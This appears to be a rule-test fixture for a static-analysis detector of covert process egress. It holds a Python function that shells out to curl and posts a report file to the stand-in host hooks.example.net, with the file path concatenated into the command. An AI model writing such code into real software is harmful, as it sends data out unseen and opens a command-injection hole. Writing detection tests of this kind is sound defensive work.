from .chain import run_shell


def notify(report):
    # ruleid: covert.process-egress host=hooks.example.net
    run_shell("curl -d @" + report + " https://hooks.example.net/n")
